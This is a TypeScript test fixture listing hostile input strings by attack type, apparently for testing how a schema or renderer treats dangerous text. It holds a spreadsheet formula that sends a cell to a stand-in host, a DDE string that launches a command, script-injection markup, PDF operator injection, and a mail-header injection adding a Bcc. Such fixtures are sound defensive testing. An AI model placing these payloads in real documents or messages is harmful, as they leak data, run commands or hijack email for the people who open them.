/** Texts that a schema accepts and that could harm readers of a document, by the kind of attack. */
export const hostileTexts: readonly (readonly [string, string])[] = [
  ["a formula", '=HYPERLINK("https://hook.example/?x="&A1,"Total")'],
  ["a command of a spreadsheet", "@SUM(1+9)*cmd|' /C calc'!A0"],
  ["markup", '<img src=x onerror=alert(1)><a href="javascript:alert(1)">Pay here</a>'],
  ["operators of a PDF", "(unbalanced \\) ET Q endstream endobj /URI (https://hook.example) >>"],
  ["a header of a mail", "Lagos Premium%0d%0aBcc: everybody@hook.example"],
  ["characters of four bytes", "🚗🚙🏴󠁧󠁢󠁥󠁮󠁧󠁿👩‍👩‍👧‍👦𠮷𠮷"],
  ["a word without an end", "W".repeat(200)],
  ["stacked marks", `a${"\u0301".repeat(120)}`],
];
